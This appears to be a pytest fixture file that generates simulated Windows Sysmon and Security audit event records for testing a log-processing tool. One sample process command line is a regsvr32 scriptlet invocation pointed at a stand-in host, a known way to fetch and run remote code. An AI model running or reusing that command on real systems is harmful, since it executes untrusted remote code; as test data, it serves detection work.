"""Records to write."""

from collections.abc import Callable
from datetime import UTC, datetime, timedelta

import pytest

from carhound.simulate.event import Simulated

SYSMON_GUID = "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}"
SECURITY_GUID = "{54849625-5478-4994-A5BA-3E3B0328C30D}"
START = datetime(2024, 6, 14, 12, 0, 0, 123457, tzinfo=UTC)


def _sysmon1(number: int) -> dict[str, str]:
    return {
        "RuleName": "-",
        "UtcTime": "2024-06-14 12:00:00.123",
        "ProcessGuid": f"{{C1A8C5E4-1B2C-65F3-0100-{number:012X}}}",
        "ProcessId": str(number),
        "Image": "C:\\Windows\\System32\\regsvr32.exe",
        "FileVersion": "10.0.19041.1 (WinBuild.160101.0800)",
        "Description": "Microsoft(C) Register Server",
        "Product": "Microsoft® Windows® Operating System",
        "Company": "Microsoft Corporation",
        "OriginalFileName": "REGSVR32.EXE",
        "CommandLine": "regsvr32 /s /u /i:http://x/y?a=1&b=<2>&c='\"' scrobj.dll 😀",
        "CurrentDirectory": "C:\\Users\\ä\\",
        "User": "CORP\\ä",
        "LogonGuid": "{C1A8C5E4-1B2C-65F3-E703-000000000000}",
        "LogonId": "0x3e7",
        "TerminalSessionId": "1",
        "IntegrityLevel": "Medium",
        "Hashes": "SHA1=" + "A" * 40 + ",MD5=" + "B" * 32,
        "ParentProcessGuid": "{c1a8c5e4-1b2c-65f3-0100-000000000001}",
        "ParentProcessId": "044",
        "ParentImage": "C:\\Windows\\explorer.exe",
        "ParentCommandLine": "",
        "ParentUser": " CORP\\b\r\n\t",
    }


def _sysmon3(number: int) -> dict[str, str]:
    return {
        "UtcTime": "2024-06-14 12:00:00.123",
        "ProcessGuid": "{C1A8C5E4-1B2C-65F3-0100-000000000001}",
        "ProcessId": str(number),
        "Initiated": "true",
        "SourceIsIpv6": "false",
        "SourceIp": "10.0.0.1",
        "SourcePort": "65535",
        "DestinationPort": "0",
    }


def _security4688(number: int) -> dict[str, str]:
    return {
        "SubjectUserSid": "S-1-5-21-1004336348-1177238915-682003330-512",
        "SubjectLogonId": "0x3e7",
        "NewProcessId": f"0x{number:x}",
        "NewProcessName": "C:\\Windows\\System32\\cmd.exe",
        "TokenElevationType": "%%1936",
        "ProcessId": "0x0",
        "CommandLine": "cmd /c ver",
        "TargetUserSid": "S-1-0-0",
        "MandatoryLabel": "S-1-16-12288",
    }


@pytest.fixture
def record() -> Callable[..., Simulated]:
    """Makes a record: of Sysmon or Security auditing in turn, or with the data given."""

    def make(number: int, data: dict[str, str] | None = None, **other: object) -> Simulated:
        event_id, fields = ((1, _sysmon1), (3, _sysmon3), (4688, _security4688))[number % 3]
        security = event_id == 4688
        values: dict[str, object] = {
            "provider": f"Microsoft-Windows-{'Security-Auditing' if security else 'Sysmon'}",
            "provider_guid": SECURITY_GUID if security else SYSMON_GUID,
            "channel": "Security" if security else "Microsoft-Windows-Sysmon/Operational",
            "computer": f"WS{number % 7}.example.org",
            "event_id": event_id,
            "version": 2 if security else 5,
            "level": 0 if security else 4,
            "task": 13312 if security else event_id,
            "opcode": 0,
            "keywords": 0x8020000000000000 if security else 0x8000000000000000,
            "record_id": 1000 + number,
            "time": START + timedelta(seconds=number, microseconds=number),
            "process_id": 2740,
            "thread_id": 3440 + number % 5,
            "user_sid": None if security else "S-1-5-18",
            "data": fields(number) if data is None else data,
        }
        return Simulated(**{**values, **other})  # type: ignore[arg-type]

    return make
